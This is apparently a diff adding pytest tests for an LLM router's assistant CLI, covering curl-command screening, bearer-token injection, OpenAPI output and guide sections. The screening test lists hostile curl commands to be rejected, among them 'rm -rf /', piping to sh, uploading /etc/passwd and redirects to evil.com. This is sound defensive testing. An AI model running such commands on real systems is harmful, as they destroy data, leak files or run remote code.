@@ -1,0 +1,120 @@
+"""Assistant CLI helper tests (reference: cli/assistant.rs — safe curl
+screening, OpenAPI output, guide text)."""
+
+import pytest
+
+from llmlb_trn.assistant import (CurlRejected, check_curl_command,
+                                 generate_openapi, guide, run_curl)
+
+
+def test_curl_screening_rejects_dangerous_commands():
+    for bad in (
+        "curl http://localhost:1/x; rm -rf /",       # metachar
+        "curl http://localhost:1/x | sh",            # pipe
+        "curl `whoami` http://localhost:1/x",        # backtick
+        "curl -o /tmp/f http://localhost:1/x",       # output redirect
+        "curl --config /etc/c http://localhost:1/x", # config read
+        "curl -u a:b http://localhost:1/x",          # credential leak
+        "curl http://example.com/x",                 # non-localhost
+        "wget http://localhost:1/x",                 # not curl
+        "curl",                                      # no URL
+        # connection-redirect bypasses: the localhost check must not be
+        # routable around
+        "curl --connect-to localhost:1:evil.com:80 http://localhost:1/x",
+        "curl --resolve localhost:1:6.6.6.6 http://localhost:1/x",
+        "curl -x evil.com:8080 http://localhost:1/x",
+        "curl --proxy evil.com http://localhost:1/x",
+        "curl --url evil.com http://localhost:1/x",
+        "curl evil.com http://localhost:1/x",        # scheme-less positional
+        "curl --unix-socket /var/run/x.sock http://localhost:1/x",
+        "curl -sSo /tmp/x http://localhost:1/x",     # bundled short opts
+        "curl -T /etc/passwd http://localhost:1/x",  # upload local file
+        "curl http://u:p@localhost:1/x",             # userinfo
+        "curl --doh-url http://evil.com/dns http://localhost:1/x",
+    ):
+        with pytest.raises(CurlRejected):
+            check_curl_command(bad)
+
+
+def test_curl_screening_accepts_normal_router_calls():
+    for ok in (
+        'curl -X POST -H "content-type: application/json" '
+        '-d \'{"model":"m"}\' http://localhost:32768/v1/chat/completions',
+        "curl -sS http://127.0.0.1:32768/v1/models",
+        "curl -XPOST -Hcontent-type:text/plain -d hi "
+        "http://localhost:32768/v1/completions",
+        "curl -i --compressed http://localhost:32768/api/version",
+    ):
+        argv = check_curl_command(ok)
+        assert argv[0] == "curl"
+
+
+def test_curl_auth_not_suppressed_by_body_text(monkeypatch):
+    captured = {}
+
+    def fake_run(argv, **kw):
+        captured["argv"] = argv
+
+        class R:
+            returncode = 0
+            stdout = "{}"
+            stderr = ""
+        return R()
+
+    monkeypatch.setattr("subprocess.run", fake_run)
+    monkeypatch.setenv("LLMLB_API_KEY", "sk_test")
+    # the word 'authorization' in the BODY must not suppress injection
+    run_curl('curl -d \'{"note":"authorization: granted"}\' '
+             "http://localhost:32768/v1/chat/completions")
+    assert "Authorization: Bearer sk_test" in " ".join(captured["argv"])
+    # ...but a real header must
+    run_curl('curl -H "Authorization: Bearer other" '
+             "http://localhost:32768/v1/models")
+    assert "sk_test" not in " ".join(captured["argv"])
+
+
+def test_curl_auth_injection(monkeypatch):
+    captured = {}
+
+    def fake_run(argv, **kw):
+        captured["argv"] = argv
+
+        class R:
+            returncode = 0
+            stdout = "{}"
+            stderr = ""
+        return R()
+
+    monkeypatch.setattr("subprocess.run", fake_run)
+    monkeypatch.setenv("LLMLB_API_KEY", "sk_test")
+    run_curl("curl http://localhost:32768/v1/models")
+    joined = " ".join(captured["argv"])
+    assert "Authorization: Bearer sk_test" in joined
+
+    run_curl("curl http://localhost:32768/v1/models", no_auto_auth=True)
+    assert "Authorization" not in " ".join(captured["argv"])
+
+
+def test_openapi_covers_route_table():
+    spec = generate_openapi()
+    assert spec["openapi"].startswith("3.")
+    paths = spec["paths"]
+    # the surfaces the reference documents in docs/openapi.yaml
+    for p in ("/v1/chat/completions", "/v1/models", "/v1/messages",
+              "/api/endpoints", "/api/auth/login", "/api/api-keys",
+              "/api/endpoints/{id}/logs", "/api/models/{name}/manifest"):
+        assert p in paths, p
+    assert "post" in paths["/v1/chat/completions"]
+    assert paths["/v1/chat/completions"]["post"]["security"]
+    # unauthenticated login has no security requirement
+    assert "security" not in paths["/api/auth/login"]["post"]
+
+
+def test_guide_sections():
+    # every advertised category must produce content
+    from llmlb_trn.assistant import GUIDE_CATEGORIES
+    for cat in GUIDE_CATEGORIES:
+        text = guide(cat)
+        assert text, cat
+        assert "no guide sections" not in text, cat
+        assert "no Quickstart" not in text, cat
